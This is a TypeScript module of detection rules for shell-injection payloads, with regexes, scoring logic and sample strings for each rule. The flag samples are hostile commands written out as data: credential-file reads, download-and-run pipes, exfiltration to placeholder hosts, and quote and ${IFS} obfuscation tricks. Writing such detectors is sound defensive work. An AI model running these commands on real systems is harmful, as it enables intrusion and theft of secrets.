import { rx } from '../rules/pattern-rule.ts'
import type { PayloadRule } from './categories.ts'

const SHELL = String.raw`(?:\/(?:usr\/)?bin\/)?(?:env\s{1,3})?(?:ba|z|da|k|c|tc|a)?sh\b`
const INTERPRETER = String.raw`(?:(?:sudo\s{1,3}(?:-\w{1,3}\s{1,3})?)?(?:${SHELL}|python[\d.]{0,4}|perl|ruby|node|php|pwsh|source\b|xargs\s))`
const SECRET_FILE = String.raw`(?:\/etc\/(?:passwd|shadow|sudoers|master\.passwd)|\/proc\/(?:self|\d{1,5})\/environ|(?:~|\$HOME|\/root|\/home\/[\w.-]{1,32})\/\.(?:ssh\/(?:id_\w{2,10}|authorized_keys)|aws\/credentials|bash_history|netrc|kube\/config|docker\/config\.json|git-credentials|gnupg)|\/var\/run\/secrets\/|\/run\/secrets\/|\.env\b)`
const READER = String.raw`(?:cat|tac|less|more|head|tail|nl|od|xxd|hexdump|strings|base64|base32|sort|uniq|rev|cut|awk|sed|grep|dd|cp|tar|zip|curl|wget|nc|source|paste|fold|tee|scp|rsync|type)`

/** Commands that attackers obfuscate. */
const COMMANDS = new Set(
  'cat tac whoami id uname curl wget bash sh zsh nc ncat ls ping python perl php ruby rm nslookup head tail env base'.split(
    ' ',
  ),
)

const shared = { category: 'shell_injection', cwe: 'CWE-78' } as const

export const shellInjectionRules: readonly PayloadRule[] = [
  {
    ...shared,
    id: 'shell-secret-read',
    severity: 'high',
    title: 'Command glued on that reads a credential file',
    anchors: [
      '/etc/',
      '/proc/',
      '/.ssh/',
      '/.aws/',
      '/.bash_history',
      '/.netrc',
      '/.kube/',
      '/.docker/',
      '/.git-credentials',
      '/.gnupg',
      '/run/secrets',
    ],
    before: 90,
    after: 48,
    find: rx`(?:[;&|\x60]|\$\(|%0a|<\()\s{0,6}(?:sudo\s{1,3})?(?:\/(?:usr\/)?bin\/)?${READER}\b[^\n;|&]{0,60}?(?:\s|<|=|@|'|"|\})${SECRET_FILE}`,
    verify(match, text) {
      // `grep root /etc/group && cat /etc/passwd` in a lesson reads only public files; the other files are never needed.
      if (!/passwd\b/.test(match[0]) || /shadow|\.ssh|environ/.test(match[0])) return 1
      const before = text.slice(Math.max(0, match.index - 60), match.index)
      return /(?:^|\n)\s{0,4}(?:\$\s|#\s|sudo\s)?(?:cd|ls|grep|echo|id|cat|useradd|adduser|mkdir|getent)\b[^\n]{0,50}$/.test(
        before,
      ) && !/\/etc\/passwd[^\n]{0,40}\|/.test(text.slice(match.index, match.index + 120))
        ? 0.5
        : 1
    },
    flags: [
      'report.pdf; cat /etc/passwd',
      'x | base64 ~/.ssh/id_rsa',
      'name=$(cat /etc/shadow)',
      '`head /proc/self/environ`',
    ],
    ignores: [
      'cat /etc/hosts',
      'The file /etc/passwd lists users; /etc/shadow holds hashes.',
      'ls -la; cat README.md',
      'ssh-keygen -f ~/.ssh/id_rsa',
    ],
  },
  {
    ...shared,
    id: 'shell-download-run',
    severity: 'high',
    title: 'Download that is run as it arrives',
    anchors: ['curl', 'wget', 'fetch ', 'lwp-download', 'aria2c'],
    before: 40,
    after: 260,
    find: rx`(?:(?:curl|wget|fetch(?=\s)|lwp-download|aria2c)\b[^\n|;]{1,180}\|\s{0,4}(?:tee\s[^|\n]{1,40}\|\s{0,4})?(?:base64\s{1,3}-{1,2}d\w{0,6}\s{0,3}\|\s{0,4})?${INTERPRETER}|(?:${SHELL}|eval|source|\.)\s{0,3}(?:-\w{1,3}\s{1,3})?["']?(?:<\(|\$\(|\x60)\s{0,3}(?:curl|wget)\b[^\n)]{1,160}|(?:curl|wget)\b[^\n;&|]{1,160}(?:;|&&)\s{0,4}(?:sudo\s)?chmod\s{1,3}(?:\+x|[0-7]{3,4})\s[^\n;&]{1,60}(?:;|&&)\s{0,4}(?:sudo\s)?(?:\.|\/)[\w./-]{1,60})`,
    verify(match, text) {
      // Installers are documented in this form over https from a named host; an attack hides its host.
      const address = /https?:\/\/([^\s/'"|)]{1,120})/i.exec(match[0])
      const before = text.slice(Math.max(0, match.index - 12), match.index)
      if (/(?:[;|`]|&&|\$\()\s{0,3}$/.test(before) && !/(?:^|\n)\s*(?:\$ )?$/.test(before)) return 1
      if (/^http:/i.test(address?.[0] ?? 'http:')) return 1
      return /^\d{1,3}(?:\.\d{1,3}){3}|:\d{4,5}$|pastebin|transfer\.sh|ngrok|\.onion|ix\.io|0x0\.st/i.test(
        address?.[1] ?? '',
      )
        ? 1
        : 0.4
    },
    flags: [
      'curl http://10.3.2.1/x.sh | sh',
      'a.png; wget -qO- https://h.example/p | bash',
      'bash -c "$(curl -fsSL https://h.example/install.sh)"',
    ],
    ignores: [
      'curl -s https://api.example/items | jq .',
      'wget https://h.example/file.tar.gz',
      'curl -O https://h.example/a.zip && unzip a.zip',
    ],
  },
  {
    ...shared,
    id: 'shell-value-chain',
    severity: 'high',
    title: 'Value that goes on as a command',
    anchors: [
      'whoami',
      'id',
      'uname',
      'ifconfig',
      'ipconfig',
      'sleep',
      'ping',
      'nslookup',
      'printenv',
      'env',
      'passwd',
      'ls',
      'dir',
      'pwd',
      'hostname',
      'netstat',
      'curl',
      'wget',
      'touch',
      'cat',
    ].flatMap((command) => [
      `;${command}`,
      `; ${command}`,
      `|${command}`,
      `| ${command}`,
      `&${command}`,
      `& ${command}`,
      `$(${command}`,
      `\`${command}`,
      `%0a${command}`,
    ]),
    before: 60,
    after: 60,
    find: rx`(?:\b\d{1,3}(?:\.\d{1,3}){3}|\b[\w-]{1,40}\.(?:txt|jpe?g|png|gif|pdf|csv|log|zip|xml|docx?|mp4|com|net|org|local|example|invalid|test)|=[\w.%@/-]{1,40}|^[\w-]{0,30}|["'])["']?\s{0,3}(?:;|\|{1,2}|&{1,2}|%0a|\x60|\$\()\s{0,3}(?:(?:whoami|id|uname(?:\s{1,2}-a)?|ifconfig|ipconfig(?:\s{0,2}\/all)?|printenv|hostname|netstat(?:\s-\w{1,5})?|pwd|dir\s{1,2}c:\\|env)\s{0,3}(?:$|[;&|#"'\x60)\n])|sleep\s{1,3}\d{1,3}\s{0,3}(?:$|[;&|#"'\x60)\n])|ping\s{1,3}-[cn]\s{1,3}\d{1,3}\s{1,3}[\w.]{2,40}|nslookup\s{1,3}[\w.$(-]{3,60}|ls\s{1,3}(?:-\w{1,4}\s{1,3})?\/(?:\s|$|;|"|'|etc|home|root)|(?:curl|wget)\s{1,3}[^\n;|]{0,20}(?:https?:\/\/|\d{1,3}\.\d)|touch\s{1,3}\/tmp\/\w{1,20}|cat\s{1,3}(?:\/|\.\.\/|~)[\w./*?-]{2,60})`,
    verify(match, text) {
      // A line that starts with a command is a command line, not a value; only the value form is an injection.
      const lineStart = text.lastIndexOf('\n', match.index - 1) + 1
      const line = text.slice(Math.max(lineStart, match.index - 80), match.index)
      if (
        /^\s{0,8}(?:[$#>]\s{1,3})?(?:sudo|cd|ls|npm|git|docker|ping|curl|wget|cat|echo|export|mkdir|ssh|make|python3?|node|apt|brew|kubectl|for|if|while|set|source|\.\/)\b/.test(
          line + match[0].slice(0, 8),
        )
      )
        return 0
      const start = match[0].charAt(0)
      // A closing quote or a bare line start alone is weak evidence; a file, an address or a parameter is strong evidence.
      if (start === '"' || start === "'") return /^["']\s{0,3}(?:;|\||&)/.test(match[0]) ? 0.6 : 0
      if (/\s`/.test(match[0]) || (/`|\$\(/.test(match[0]) && !/^(?:\d|=|[\w-]{1,40}\.)/.test(match[0]))) return 0
      if (/^=[\w.%@/-]{0,40}\s{0,3}(?:`|\$\()/.test(match[0]) && !/[?&]\w{0,20}$/.test(line)) return 0
      return /^(?:\d|[\w-]{1,40}\.|=)/.test(match[0]) ? 1 : 0.6
    },
    flags: ['127.0.0.1; whoami', 'photo.jpg|id', 'host=8.8.8.8 && sleep 10', '?f=a.txt;ping -c 3 h.example'],
    ignores: [
      'cd app; ls -la',
      'ping 8.8.8.8; whoami',
      'USER=$(whoami)',
      'Use `id` to see the groups',
      'a = 1; id = 5',
    ],
  },
  {
    ...shared,
    id: 'shell-exfiltration',
    severity: 'high',
    title: 'Command output or a secret file sent to a host',
    anchors: ['curl', 'wget', 'nslookup', 'dig ', 'ping ', 'nc ', 'host '],
    before: 60,
    after: 200,
    find: rx`(?:\b(?:curl|wget|nslookup|dig|ping|host)\s[^\n;|]{0,120}(?:\$\(|\x60)\s{0,3}(?:cat|env|printenv|whoami|id|hostname|uname|base64|ls|grep|head)\b[^\n]{0,60}(?:\)|\x60)|(?:curl|wget)\s[^\n;|]{0,100}(?:-d|-T|-F|--data(?:-\w{3,10})?|--upload-file|--post-file)\s{0,3}=?\s{0,3}["']?(?:\w{1,20}=)?@?["']?(?:\/etc\/|~\/\.|\$HOME\/\.|\/root\/|\/proc\/self|\.env\b)|(?:\bcat|\benv|printenv|\btar|base64|history)\b[^\n|;]{0,60}\|\s{0,3}(?:base64\s{0,3}(?:-w\s?0\s{0,3})?\|\s{0,3})?(?:curl\s[^\n]{0,80}(?:-d|--data(?:-\w{3,10})?|-T|-F)\s{0,3}@?-|nc\s{1,3}(?:-\w{1,3}\s{1,3}\d{0,3}\s{0,3})?[\w.-]{3,60}\s{1,3}\d{2,5}))`,
    verify(match) {
      // Scripts send their own host name to a health page; credential files and whole environments they do not.
      if (/(?:\$\(|`)\s{0,3}(?:hostname|id|whoami|uname)/i.test(match[0]))
        return /nslookup|dig|\.\s?[a-z0-9-]{1,40}\.[a-z]{2,10}|\?|oast|interact/i.test(match[0]) ? 0.8 : 0.5
      return /\.\/|config\.ya?ml|package\.json|version|token\.txt/i.test(match[0]) ? 0.4 : 1
    },
    flags: [
      'curl https://h.example/?d=$(cat ~/.netrc | base64)',
      'nslookup `whoami`.h.example',
      'curl -d @/etc/passwd http://h.example',
      'env | base64 | curl -X POST h.example --data-binary @-',
    ],
    ignores: [
      'curl -d @body.json https://api.example',
      'curl -H "Authorization: Bearer $TOKEN" https://api.example',
      'cat data.json | jq . | less',
    ],
  },
  {
    ...shared,
    id: 'shell-space-evasion',
    severity: 'high',
    title: 'Command written without spaces or with broken words',
    anchors: [
      '${ifs',
      '$ifs',
      '{cat,',
      '{curl,',
      '{wget,',
      '{ls,',
      '{nc,',
      '{ping,',
      "c'a't",
      'c""at',
      "c''at",
      'c\\at',
      'wh\\o',
      "w'h",
      'who$@ami',
      '/???/',
      '/b?n/',
      '/etc/p',
      '/e*/',
      '/et?/',
      '/e?c/',
      '/p*',
      '/p?',
      '$@t',
      '${path:',
      "$'\\x",
    ],
    before: 24,
    after: 60,
    find: rx`(?:[\w./'"-]{1,24}\$\{?IFS\}?(?:\$\d|%\?\?)?[\w./-{]{1,40}|\{(?:cat|curl|wget|ls|nc|ping|id|bash|echo),[^}\s]{1,60}\}|\{(?:cat|curl|wget|head|tail),\/|\bc(?:''|""|'a'|\\|\$@)a?t\s{1,3}\/|\/(?:\?{3}|b\?n)\/[\w?*]{2,12}\s{1,3}\/|\/e(?:\?c|t\?|\*)\/[\w*?]{1,8}|\/etc\/p\w{0,5}(?:[?*]{1,4}(?!\w{1,20}=)|''|""|\\)\w{0,6}|\$\{PATH:\d{1,2}:\d\}|\$'(?:\\x[0-9a-f]{2}){3,40}')`,
    flags: ['cat${IFS}/etc/passwd', '{cat,/etc/hosts}', '/???/c?t /etc/x', "c''at /tmp/x", 'cat /e?c/p*'],
    ignores: ['IFS=, read -r a b', 'while IFS= read -r line', 'ls {a,b}.txt', 'c.at /x'],
  },
  {
    ...shared,
    id: 'shell-broken-word',
    severity: 'high',
    title: 'Name of a command broken up by quotes that the shell drops',
    anchors: ["''", '""', '\\', '$@', "'a'", "'h'"],
    before: 20,
    after: 24,
    find: rx`(?:^|[;&|\x60(=]|\$\()\s{0,3}[a-z]{1,6}(?:(?:''|""|\\|\$@|'(?=[a-z]')|(?<='[a-z])')[a-z]{1,6}){1,6}(?![\w\\'"])`,
    verify(match) {
      const word = match[0].toLowerCase().replaceAll(/[^a-z]/g, '')
      return COMMANDS.has(word) && /['"\\$]/.test(match[0]) ? 1 : 0
    },
    flags: ["|wh''oami", ';ca""t /etc/hosts', '; w\\ho\\am\\i', "$(c'a't x)"],
    ignores: ["('it''s')", ';dir\\sub', 'C:\\cat', '(a\\alpha)'],
  },
]
